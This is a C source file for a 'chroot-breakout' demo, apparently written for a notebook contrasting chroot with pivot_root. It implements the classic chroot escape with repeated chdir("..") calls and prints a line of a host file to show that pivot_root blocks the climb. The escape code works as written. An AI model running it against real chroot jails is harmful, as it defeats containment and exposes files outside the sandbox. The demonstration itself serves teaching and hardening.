/* chroot-breakout FILE: the classic way out of a chroot, for the pivot-root-vs-chroot notebook.
 *
 * chroot(2) changes only where *this process's* path lookups stop going up; it does not move the
 * process, and it changes nothing in the mount table. So a process with CAP_SYS_CHROOT can:
 *   1. chroot into a subdirectory (/tmp will do), without entering it: its cwd is now
 *      *outside* its root;
 *   2. chdir("..") again and again: ".." stops only at the process's root, which it is no
 *      longer under, so it climbs to the root of the whole mount tree;
 *   3. chroot(".") there: the real top of the tree is its "/" again.
 * Under pivot_root the top of the container's mount tree *is* its rootfs (the old root was
 * detached), so the same climb ends where it started.
 *
 * It writes nothing: it prints the first line of FILE as seen from wherever it ended up.
 * Built static by rootfs/build.sh into the busybox image (/usr/local/bin); never committed. */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	char line[256];
	FILE *f;
	int i;

	if (argc != 2) {
		fprintf(stderr, "usage: chroot-breakout FILE\n");
		return 2;
	}
	if (chdir("/") < 0 || chroot("/tmp") < 0) {  /* 1. cwd stays behind, outside the new root */
		fprintf(stderr, "chroot-breakout: chroot: %s (it needs CAP_SYS_CHROOT)\n", strerror(errno));
		return 2;
	}
	for (i = 0; i < 64; i++)               /* 2. climb as far as ".." goes */
		if (chdir("..") < 0)
			break;
	if (chroot(".") < 0) {                 /* 3. make the top our root */
		fprintf(stderr, "chroot-breakout: chroot(.): %s\n", strerror(errno));
		return 2;
	}
	f = fopen(argv[1], "r");
	if (f == NULL) {
		printf("after the climb: %s: %s\n", argv[1], strerror(errno));
		return 1;
	}
	if (fgets(line, sizeof line, f) == NULL)
		line[0] = 0;
	fclose(f);
	line[strcspn(line, "\n")] = 0;
	printf("after the climb: %s says: %s\n", argv[1], line);
	return 0;
}
